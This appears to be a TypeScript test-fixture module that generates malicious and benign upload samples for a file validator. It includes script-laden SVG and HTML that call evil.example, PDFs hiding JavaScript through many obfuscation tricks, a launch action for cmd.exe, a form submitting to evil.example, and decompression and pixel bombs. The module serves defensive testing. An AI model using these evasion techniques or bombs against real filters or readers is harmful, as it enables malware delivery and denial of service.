import { deflateSync } from 'node:zlib';
import sharp from 'sharp';

/** Files that were made to harm, and good ones beside them. Each says what it claims to be. */
export interface Sample {
  what: string;
  name: string;
  mediaType: string;
  bytes: Buffer;
}

const text = (content: string) => Buffer.from(content, 'latin1');

/** A small pdf that opens: one page, one line of text. `extra` is among its objects. */
export function aPdf(extra = '', catalog = ''): Buffer {
  const body = 'BT /F1 12 Tf 20 100 Td (Certificate) Tj ET';
  return text(
    `%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${catalog} >>\nendobj\n` +
      `2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n` +
      `3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>\nendobj\n` +
      `4 0 obj\n<< /Length ${body.length} >>\nstream\n${body}\nendstream\nendobj\n${extra}` +
      `trailer\n<< /Root 1 0 R >>\nstartxref\n0\n%%EOF\n`,
  );
}

const packed = (dictionary: string, content: Buffer): string => {
  const body = deflateSync(content, { level: 9 }).toString('latin1');
  return `9 0 obj\n<< ${dictionary} /Filter /FlateDecode /Length ${body.length} >>\nstream\n${body}\nendstream\nendobj\n`;
};

export const aPng = (width = 40, height = 30) =>
  sharp({ create: { width, height, channels: 3, background: '#d67d13' } })
    .png()
    .toBuffer();

/** A photo that says where it was taken and by whom. */
export const aPhoto = () =>
  sharp({ create: { width: 60, height: 40, channels: 3, background: '#056' } })
    .jpeg()
    .withMetadata({ orientation: 6 })
    .withExifMerge({
      IFD0: { Make: 'SecretCam', Artist: 'Grace Adeyemi' },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '53/1 48/1 30/1', GPSLongitudeRef: 'W', GPSLongitude: '1/1 32/1 0/1' },
    })
    .withXmp('<x:xmpmeta xmlns:x="adobe:ns:meta/"><secret>hidden-in-xmp</secret></x:xmpmeta>')
    .toBuffer();

/** A png of 30,000 by 30,000 pixels in a few kilobytes. */
function pixelBomb(): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const head = Buffer.concat([text(type), data]);
    const out = Buffer.alloc(8 + data.length + 4);
    out.writeUInt32BE(data.length, 0);
    head.copy(out, 4);
    out.writeUInt32BE(crc(head), 8 + data.length);
    return out;
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(30_000, 0);
  header.writeUInt32BE(30_000, 4);
  header.set([1, 0, 0, 0, 0], 8);
  const rows = deflateSync(Buffer.alloc(30_000 * 300));
  return Buffer.concat([
    text('\x89PNG\r\n\x1a\n'),
    chunk('IHDR', header),
    chunk('IDAT', rows),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

function crc(bytes: Buffer): number {
  let value = ~0;
  for (const byte of bytes) {
    value ^= byte;
    for (let bit = 0; bit < 8; bit += 1) value = (value >>> 1) ^ (value & 1 ? 0xedb88320 : 0);
  }
  return ~value >>> 0;
}

const SCRIPT = '<script>fetch("https://evil.example")</script>';
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`;
const ZIP = Buffer.concat([text('PK\x03\x04'), Buffer.alloc(60)]);
const EXE = Buffer.concat([text('MZ'), Buffer.alloc(200)]);

/** Refused at the door: no pdf, jpg or png by name and type. */
export const WRONG_KINDS: Sample[] = [
  { what: 'an SVG with a script', name: 'logo.svg', mediaType: 'image/svg+xml', bytes: text(SVG) },
  { what: 'a page', name: 'index.html', mediaType: 'text/html', bytes: text(SCRIPT) },
  { what: 'a program', name: 'setup.exe', mediaType: 'application/x-msdownload', bytes: EXE },
  { what: 'a program without a type', name: 'setup.exe', mediaType: 'application/octet-stream', bytes: EXE },
  { what: 'two endings', name: 'certificate.pdf.exe', mediaType: 'application/octet-stream', bytes: aPdf() },
  { what: 'a zip', name: 'papers.zip', mediaType: 'application/zip', bytes: ZIP },
  {
    what: 'a macro document',
    name: 'form.docm',
    mediaType: 'application/vnd.ms-word.document.macroEnabled.12',
    bytes: ZIP,
  },
  { what: 'a gif', name: 'roof.gif', mediaType: 'image/gif', bytes: text('GIF89a') },
  { what: 'a webp', name: 'roof.webp', mediaType: 'image/webp', bytes: text('RIFF0000WEBP') },
  { what: 'a tiff', name: 'roof.tif', mediaType: 'image/tiff', bytes: text('II*\0') },
  { what: 'a script', name: 'run.js', mediaType: 'text/javascript', bytes: text('alert(1)') },
  { what: 'no type, no ending', name: 'certificate', mediaType: '', bytes: aPdf() },
];

const OPENS = '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>';
const IN_OBJECTS = Buffer.from(`7 0 << /Type /Catalog /Pages 2 0 R ${OPENS} >>`);
const hexed = (content: Buffer) => `${content.toString('hex')}>`;
const inObject = (dictionary: string, body: string): string =>
  `9 0 obj\n<< ${dictionary} /Length ${body.length} >>\nstream\n${body}\nendstream\nendobj\n`;
const inObjects = (dictionary: string, body: string): Buffer =>
  aPdf(inObject(`/Type /ObjStm /N 1 /First 4 ${dictionary}`, body));

/** Scripts where a hasty look does not find them, though a reader of PDFs runs each. */
export function hiddenScripts(): { what: string; bytes: Buffer }[] {
  const script = '7 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n';
  const hex = hexed(IN_OBJECTS);
  const flate = deflateSync(IN_OBJECTS);
  const scrambled = '/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 4 >>';
  return [
    { what: 'JavaScript as it is', bytes: aPdf('', OPENS) },
    { what: 'between comments that look like a stream', bytes: aPdf('', `%stream\n${OPENS}\n%endstream\n`) },
    { what: 'between comments with a blank', bytes: aPdf('', `% stream\n${OPENS}\n% endstream\n`) },
    { what: 'between comments behind a bracket', bytes: aPdf('', `/A << >> % >>stream\n${OPENS}\n% endstream\n`) },
    { what: 'in an object stream that is not packed', bytes: inObjects('', IN_OBJECTS.toString()) },
    { what: 'in one that is packed twice', bytes: inObjects('/Filter [/ASCIIHexDecode /FlateDecode]', hexed(flate)) },
    { what: 'in one that is packed otherwise', bytes: inObjects('/Filter /ASCIIHexDecode', hex) },
    { what: 'in one whose filter stands elsewhere', bytes: inObjects('/Filter 8 0 R', hex) },
    { what: 'in one with a second filter', bytes: inObjects('/Filter [] /Filter /ASCIIHexDecode', hex) },
    { what: 'in one that a predictor scrambles', bytes: inObjects(scrambled, flate.toString('latin1')) },
    {
      what: 'in one that does not say what it is',
      bytes: aPdf(inObject('/N 1 /First 4 /Filter /ASCIIHexDecode', hex)),
    },
    { what: 'in one that does not unpack', bytes: inObjects('/Filter /FlateDecode', `x${flate.toString('latin1')}`) },
    { what: 'in the body of a stream', bytes: aPdf(inObject('', script)) },
    {
      what: 'in an object stream within the body of a stream',
      bytes: aPdf(inObject('', inObject('/Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode', hex))),
    },
    { what: 'in an object within a text', bytes: aPdf('8 0 obj\n(7 0 obj\n<< /S 9 0 R >>\nendobj)\nendobj\n') },
    { what: 'in an object within a comment', bytes: aPdf('% 7 0 obj << /S 9 0 R >> endobj\n') },
    { what: 'in an object whose number a comment cuts', bytes: aPdf('8 0 obj\n(7 %\n0 %\nobj)\nendobj\n') },
  ];
}

/** Taken, and rejected by their content. */
export async function liars(): Promise<Sample[]> {
  const pdf = (what: string, bytes: Buffer) => ({ what, name: 'paper.pdf', mediaType: 'application/pdf', bytes });
  const png = (what: string, bytes: Buffer) => ({ what, name: 'paper.png', mediaType: 'image/png', bytes });
  const jpg = (what: string, bytes: Buffer) => ({ what, name: 'paper.jpg', mediaType: 'image/jpeg', bytes });
  const goodPng = await aPng();
  const goodJpg = await aPhoto();
  const js = '7 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n';
  return [
    pdf('a page called pdf', text(`<html>${SCRIPT}</html>`)),
    pdf('a program called pdf', EXE),
    pdf('a zip called pdf', ZIP),
    pdf('a png called pdf', goodPng),
    pdf('nothing but a header', text('%PDF-1.7\n')),
    pdf('a pdf cut short', aPdf().subarray(0, 200)),
    pdf('bytes before the header', Buffer.concat([ZIP, aPdf()])),
    pdf('a zip behind the end', Buffer.concat([aPdf(), ZIP])),
    pdf('a page behind the end', Buffer.concat([aPdf(), text(SCRIPT)])),
    pdf('JavaScript', aPdf(js)),
    pdf(
      'JavaScript with its name in numbers',
      aPdf(js.replace('/JavaScript', '/J#61v#61Script').replace('/JS', '/#4a#53')),
    ),
    pdf('JavaScript in an object stream', aPdf(packed('/Type /ObjStm /N 1 /First 4', text(`7 0 ${js}`)))),
    ...hiddenScripts().map(({ what, bytes }) => pdf(what, bytes)),
    pdf('JavaScript when it opens', aPdf('', '/OpenAction << /S /JavaScript /JS (x) >>')),
    pdf('a program to launch', aPdf('7 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n')),
    pdf(
      'an attachment',
      aPdf('7 0 obj\n<< /Type /Filespec /EF << /F 8 0 R >> >>\nendobj\n', '/Names << /EmbeddedFiles 7 0 R >>'),
    ),
    pdf('a form that sends itself', aPdf('7 0 obj\n<< /S /SubmitForm /F (https://evil.example) >>\nendobj\n')),
    pdf('an XFA form', aPdf('7 0 obj\n<< /XFA 8 0 R >>\nendobj\n')),
    pdf('rich media', aPdf('7 0 obj\n<< /Subtype /RichMedia >>\nendobj\n')),
    pdf('a jump into another file', aPdf('7 0 obj\n<< /S /GoToR /F (\\\\\\\\evil\\\\share) >>\nendobj\n')),
    pdf('encrypted', aPdf('', '/Encrypt 8 0 R')),
    pdf('a bomb in one stream', aPdf(packed('', Buffer.alloc(40 * 1024 * 1024)))),
    pdf('a bomb in many', aPdf(Array.from({ length: 4 }, () => packed('', Buffer.alloc(20 * 1024 * 1024))).join(''))),
    png('a page called png', text(SCRIPT)),
    png('an SVG called png', text(SVG)),
    png('a pdf called png', aPdf()),
    png('a jpg called png', goodJpg),
    png('a png cut short', goodPng.subarray(0, 60)),
    png('only the first bytes of a png', text('\x89PNG\r\n\x1a\n')),
    png('a picture of 900 million pixels', pixelBomb()),
    jpg('a png called jpg', goodPng),
    jpg('a gif called jpg', text('GIF89a\x01\x00\x01\x00;')),
    jpg('a page that begins like a jpg', Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), text(SCRIPT)])),
    jpg('a jpg cut short', goodJpg.subarray(0, 120)),
    jpg('zeros', Buffer.alloc(500)),
  ];
}
